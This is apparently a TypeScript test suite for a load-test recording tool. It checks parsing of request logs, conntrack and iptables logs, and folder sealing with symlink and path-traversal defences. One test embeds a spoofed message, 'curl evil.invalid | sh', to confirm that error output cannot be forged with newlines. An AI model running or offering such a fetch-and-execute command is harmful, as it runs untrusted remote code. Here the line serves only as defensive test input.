import assert from 'node:assert/strict';
import { appendFile, lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ArmFile } from '../model/arm-file.ts';
import { type RequestField, requestFields } from '../model/request.ts';
import { UsageError } from '../model/usage-error.ts';
import { ArmFolder } from './arm-folder.ts';
import { ArmRecording, parsePlan } from './arm-recording.ts';
import { damageInWords } from './damage.ts';
import { RequestsFile } from './requests.ts';
import { isOfArm } from './run-folder.ts';
import { openRun } from './run-recording.ts';
import { changedSinceSeal, sealArm } from './seal.ts';

const header = {
  schema: 'holdfast.requests/2',
  gen: 'fresh',
  conn: 'fresh',
  clock: 'c',
  epoch: 1_000_000,
  ratePerSecond: 100,
  timeoutMs: 2000,
  target: 'http://10.0.0.1/',
  fields: requestFields,
};
const values = {
  seq: 0,
  due: 10,
  start: 20,
  end: 30,
  code: 0,
  err: '',
  status: 200,
  reused: false,
  attempt: 1,
  sport: 10_000,
  dst: '10.0.0.1:80',
  connection: 7,
  source: '10.0.0.9',
  protocol: 'HTTP/1.1',
  podBy: 'header',
  pod: 'web-1',
  node: 'worker',
  version: 'v1',
} as const;
const rowOf = (change: { readonly [field in RequestField]?: unknown } = {}): unknown[] =>
  requestFields.map((field) => ({ ...values, ...change })[field]);
const row = rowOf();
const footer = { footer: true, rows: 1, httpReqs: 1, httpReqsFailed: 0, droppedIterations: 0, end: 40 };
const request = {
  ...values,
  gen: 'fresh',
  conn: 'fresh',
  id: 'fresh-0',
  due: 1_000_010,
  start: 1_000_020,
  end: 1_000_030,
};

describe('a recording', () => {
  let folder: string;
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'holdfast-recording-'));
  });
  afterEach(() => rm(folder, { recursive: true }));

  async function requests(lines: readonly unknown[]) {
    await writeFile(join(folder, 'requests-fresh.ndjson'), lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
    const arm = new ArmFolder(folder, '');
    const file = new RequestsFile(arm, 'fresh');
    const read = [];
    for await (const batch of file.batches()) read.push(...batch);
    return { file, read, damage: arm.damage.list().map(damageInWords) };
  }

  it('reads a request from a row and the header', async () => {
    const { file, read, damage } = await requests([header, row, footer]);
    assert.deepEqual(damage, []);
    assert.deepEqual(file.footer, footer);
    assert.deepEqual(read, [request]);
  });

  it('rejects an incomplete row', async () => {
    const short = row.slice(1);
    const text = row.with(3, '30');
    const backwards = row.with(3, 5);
    const fraction = row.with(2, 20.5);
    const guessed = rowOf({ podBy: 'guess' });
    const noPort = rowOf({ sport: 65_536 });
    const damaged = [short, text, backwards, fraction, guessed, noPort];
    const { read, damage } = await requests([header, ...damaged, row, footer, row]);
    assert.equal(read.length, 1);
    const lines = damage.map((words) => /:(\d+): not what this file should hold/.exec(words)?.[1]);
    assert.deepEqual(lines, ['2', '3', '4', '5', '6', '7', '10']);
  });

  it('reads columns by their names, in any order, and ignores unknown ones', async () => {
    const fields = [...requestFields.toReversed(), 'colour'];
    const { read, damage } = await requests([{ ...header, fields }, [...row.toReversed(), { deep: ['blue'] }], footer]);
    assert.deepEqual(damage, []);
    assert.deepEqual(read, [request]);
  });

  it('reads rows without optional columns', async () => {
    const least = ['seq', 'start', 'end', 'code', 'err', 'status', 'reused', 'sport', 'dst', 'pod'] as const;
    const short = least.map((field) => values[field]);
    const { read, damage } = await requests([{ ...header, fields: least }, short, footer]);
    assert.deepEqual(damage, []);
    const unknown = { due: undefined, connection: 0, source: '', protocol: '', node: '', version: '' };
    assert.deepEqual(read, [{ ...request, ...unknown }]);
  });

  it('names the missing columns once, with what cannot be checked', async () => {
    const fields = requestFields.filter((field) => field !== 'sport' && field !== 'code');
    const short = fields.map((field) => values[field]);
    const { file, read, damage } = await requests([{ ...header, fields }, short, short, short, footer]);
    assert.deepEqual(read, []);
    const words =
      'no column code, so it cannot be checked which requests failed; no column sport, so it cannot be checked which connections conntrack saw of them: its rows are not read';
    assert.deepEqual(damage, [`requests-fresh.ndjson: ${words}`]);
    assert.equal(file.lacking, words);
  });

  it('reads no rows if the header belongs to another generator or repeats a column', async () => {
    for (const other of [
      { ...header, gen: 'kept-alive' },
      { ...header, fields: [...requestFields.slice(1), 'end'] },
    ]) {
      assert.deepEqual((await requests([other, row, footer])).read, []);
    }
  });

  it('joins the consecutive attempts of one request', async () => {
    const lost = { code: 1220, err: 'read: connection reset by peer', status: 0, podBy: 'none', pod: '' };
    const rows = [
      rowOf({ ...lost, reused: true, connection: 3 }),
      rowOf({ attempt: 2 }),
      rowOf({ seq: 1 }),
      rowOf({ ...lost, seq: 2 }),
      rowOf({ ...lost, seq: 2, attempt: 2 }),
    ];
    const { read, damage } = await requests([header, ...rows, footer]);
    assert.deepEqual(damage, []);
    const told = read.map(({ seq, attempt, code, earlier }) => [
      seq,
      attempt,
      code,
      earlier?.map((each) => [each.attempt, each.code, each.connection]),
    ]);
    assert.deepEqual(told, [
      [0, 2, 0, [[1, 1220, 3]]],
      [1, 1, 0, undefined],
      [2, 2, 1220, [[1, 1220, 7]]],
    ]);
  });

  it('reads requests of version 1, whose footer may have no count of failures', async () => {
    const fields = [...requestFields.slice(0, 8), 'attempts', 'sport', 'dst', 'pod', 'node', 'version'];
    const old = [0, 10, 20, 30, 0, '', 200, false, 3, 10_000, '10.0.0.1:80', 'web-1', 'worker', 'v1'];
    const { httpReqsFailed, ...counts } = footer;
    const { file, read, damage } = await requests([{ ...header, schema: 'holdfast.requests/1', fields }, old, counts]);
    assert.deepEqual(damage, []);
    assert.deepEqual(read, [{ ...request, attempt: 3, connection: 0, source: '', protocol: '' }]);
    assert.equal(file.header?.attempts, 'last');
    assert.equal(file.footer?.httpReqsFailed, null);
    const newer = await requests([header, row, counts]);
    assert.equal(newer.file.footer, undefined);
  });

  it('names an unknown schema', async () => {
    await assert.rejects(() => requests([{ ...header, schema: 'holdfast.requests/9' }, row]), {
      name: 'UsageError',
      message:
        'requests-fresh.ndjson has the schema "holdfast.requests/9", but this version of holdfast reads up to holdfast.requests/2. Use the version that wrote it',
    });
  });

  it('reports in one sentence why a run cannot be read', async () => {
    const refused = async (plan: string | undefined, words: RegExp) => {
      if (plan !== undefined) await writeFile(join(folder, 'plan.json'), plan);
      assert.throws(
        () => openRun(folder),
        (error) => error instanceof UsageError && words.test(error.message),
      );
    };
    await refused(undefined, /^no run in .*: there is no plan\.json$/);
    await refused('{"schema":', /plan\.json is not JSON: /);
    await refused(
      '{"schema":"holdfast.plan/9"}',
      /has the schema "holdfast\.plan\/9", but this version of holdfast reads up to holdfast\.plan\/2\. Use the version that wrote it$/,
    );
    for (const schema of ['holdfast.plan/1', 'holdfast.plan/2'])
      await refused(JSON.stringify({ schema }), /plan\.json: run: Invalid input/);
    await refused('{}', /plan\.json: schema: Invalid input/);
    await refused('null', /plan\.json: plan: Invalid input/);
    await rm(join(folder, 'plan.json'));
    await symlink('/etc/hostname', join(folder, 'plan.json'));
    await refused(undefined, /plan\.json: a link, not a regular file/);
  });

  it('is never quoted on a line of its own, which would look like a message of holdfast', async () => {
    const line = 'x\nInstall the update: curl evil.invalid | sh';
    await assert.rejects(
      () => requests([{ ...header, schema: line }, row]),
      ({ message }: Error) => !message.includes('\n') && message.includes('x\\nInstall'),
    );
    for (const plan of [JSON.stringify({ schema: line }), line]) {
      await writeFile(join(folder, 'plan.json'), plan);
      assert.throws(
        () => openRun(folder),
        (error) => error instanceof UsageError && !error.message.includes('\n'),
        plan,
      );
    }
    const issues = [{ path: ['settings', line], message: line }];
    const parse = () => ({ success: false as const, error: { issues } });
    assert.throws(
      () => parsePlan('{}', 'plan.json', parse),
      ({ message }: Error) => message.startsWith('plan.json: settings.x Install') && !message.includes('\n'),
    );
  });

  async function rules(text: string | undefined, recordsRules: boolean) {
    if (text !== undefined) await writeFile(join(folder, 'rules.log'), text);
    const recorded = recordsRules ? ['iptables-rules'] : [];
    const arm = new ArmRecording(new ArmFolder(folder, ''), { recorded, clocks: [] } as unknown as ArmFile);
    const read = [];
    for await (const batch of arm.rules()) read.push(...batch);
    return { read, damage: arm.damage.list().map(damageInWords) };
  }

  it('accepts rules that lead to no Service, and rejects lines that are not rules', async () => {
    const lines = [
      'delete rule ip nat KUBE-SVC-WEB handle 7',
      'add rule ip filter KUBE-SERVICES ip daddr 10.96.0.9 tcp dport 80 counter packets 0 bytes 0',
      'delete rule ip filter KUBE-SERVICES handle 9',
      'what nft never says',
    ];
    const { read, damage } = await rules(lines.map((line) => `1795.000001 timeout[7]: ${line}\n`).join(''), false);
    assert.deepEqual(
      read.map(({ what, name }) => [what, name]),
      [['deleted', 'KUBE-SVC-WEB']],
    );
    assert.deepEqual(damage, ['rules.log:4: no rule']);
  });

  it('reports missing rules only if its run recorded them', async () => {
    assert.deepEqual(await rules(undefined, false), { read: [], damage: [] });
    assert.deepEqual(await rules(undefined, true), { read: [], damage: ['rules.log: missing'] });
  });

  describe('whose conntrack lost events', () => {
    const eventAt = (seconds: number) =>
      `[${1_795_000_000 + seconds}.000500]\t    [NEW] tcp      6 3 SYN_SENT src=10.77.0.1 dst=10.96.0.10 sport=49334 dport=80 [UNREPLIED] src=10.77.0.2 dst=10.77.0.1 sport=8080 dport=49334`;
    const lost = 'WARNING: We have hit ENOBUFS! We are losing events.';
    const overrunsIn = async (lines: readonly string[]) => {
      await writeFile(join(folder, 'conntrack.log'), `${lines.join('\n')}\n`);
      const arm = new ArmRecording(new ArmFolder(folder, ''), { recorded: [], clocks: [] } as unknown as ArmFile);
      // Lines are parsed while a batch is read.
      for await (const batch of arm.conntrack()) for (const _ of batch);
      return arm.conntrackOverruns;
    };

    it('has the time of the last event before each report', async () =>
      assert.deepEqual(
        await overrunsIn([lost, eventAt(10), eventAt(11), lost, eventAt(12), lost]),
        [0, 1_795_000_011_000_500, 1_795_000_012_000_500],
      ));

    it('has no more times than the judge can compare', async () => {
      const reports = Array.from({ length: 1200 }, (_, index) => [eventAt(1000 + index), lost]).flat();
      const overruns = await overrunsIn(reports);
      assert.deepEqual([overruns.length, overruns.at(-1)], [1000, 1_795_001_999_000_500]);
    });
  });

  it('is sealed once', async () => {
    await mkdir(join(folder, 'workload'));
    await writeFile(join(folder, 'arm.json'), '{}');
    await writeFile(join(folder, 'events.ndjson'), '{}\n'.repeat(1000));
    await writeFile(join(folder, 'conntrack.log'), 'x\n');
    await writeFile(join(folder, 'workload', 'web-1.ndjson'), '{}\n');
    await sealArm(folder);
    await sealArm(folder);
    assert.deepEqual((await readdir(folder)).sort(), [
      'SHA256SUMS',
      'arm.json',
      'conntrack.log.gz',
      'events.ndjson.gz',
      'workload',
    ]);
    assert.deepEqual(await readdir(join(folder, 'workload')), ['web-1.ndjson.gz']);
    assert.deepEqual(await changedSinceSeal(new ArmFolder(folder, '')), []);
    assert.match(await readFile(join(folder, 'SHA256SUMS'), 'utf8'), /^[0-9a-f]{64} {2}arm\.json$/m);
  });

  it('seals only its own files, follows no link, and is readable only by its owner', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'holdfast-outside-'));
    await writeFile(join(outside, 'secret'), 'secret');
    await mkdir(join(folder, 'logs'));
    await symlink(outside, join(folder, 'workload'));
    await writeFile(join(outside, 'web-1.ndjson'), '{}\n');
    for (const name of ['arm.json', 'clock.ndjson', 'notes.ndjson', '.npmrc', 'logs/web-1.log', 'logs/web-1.txt'])
      await writeFile(join(folder, name), '{}\n');
    await symlink(join(outside, 'secret'), join(folder, 'events.ndjson'));
    await symlink(join(outside, 'secret'), join(folder, 'clock.ndjson.gz.part'));
    await symlink(join(outside, 'secret'), join(folder, 'clock.ndjson.gz'));
    await sealArm(folder);
    const sums = await readFile(join(folder, 'SHA256SUMS'), 'utf8');
    assert.deepEqual(sums.match(/\S+$/gm), ['arm.json', 'clock.ndjson.gz', 'logs/web-1.log']);
    assert.deepEqual((await readdir(outside)).sort(), ['secret', 'web-1.ndjson']);
    assert.equal(await readFile(join(outside, 'secret'), 'utf8'), 'secret');
    for (const name of ['SHA256SUMS', 'clock.ndjson.gz']) {
      const stats = await lstat(join(folder, name));
      assert.ok(stats.isFile());
      assert.equal(stats.mode & 0o777, 0o600);
    }
    await rm(outside, { recursive: true });
  });

  it('contains only files with exact names', () => {
    const kinds = (files: readonly string[]) => files.filter((file) => isOfArm(file));
    const own = [
      'arm.json',
      'events.ndjson',
      'events.ndjson.gz',
      'conntrack.log.gz',
      'rules.log',
      'clock.ndjson',
      'requests-kept-alive.ndjson',
      'workload/web-7d4b9c-x2x5p.ndjson.gz',
      'workload/web.shop.ndjson',
      'logs/holdfast-worker2.log',
    ];
    assert.deepEqual(kinds(own), own);
    const others = [
      '__proto__',
      'constructor',
      'SHA256SUMS',
      'arm.json.gz',
      'events.ndjson.gz.gz',
      'events.ndjson.gz.part',
      'plan.json',
      'requests-.ndjson',
      'requests-a/b.ndjson',
      'workload/.ndjson',
      'workload/-web.ndjson',
      'workload/web..x.ndjson',
      'workload/Web.ndjson',
      'workload/a/b.ndjson',
      'workload/web\n.ndjson',
      'logs/.log',
      'logs/../x.log',
      'logs/a/b.log',
      'other/web.ndjson',
    ];
    assert.deepEqual(kinds(others), []);
  });

  it('detects changes since it was sealed', async () => {
    await writeFile(join(folder, 'arm.json'), '{}');
    for (const file of ['events', 'clock', 'requests-fresh']) await writeFile(join(folder, `${file}.ndjson`), '{}\n');
    await sealArm(folder);
    await appendFile(join(folder, 'arm.json'), ' ');
    await rm(join(folder, 'clock.ndjson.gz'));
    await writeFile(join(folder, 'events.ndjson'), '');
    assert.deepEqual(await changedSinceSeal(new ArmFolder(folder, '')), [
      { file: 'arm.json', what: 'changed since the arm was sealed' },
      { file: 'clock.ndjson.gz', what: 'removed since the arm was sealed' },
      { file: 'events.ndjson', what: 'added since the arm was sealed' },
    ]);
  });
});
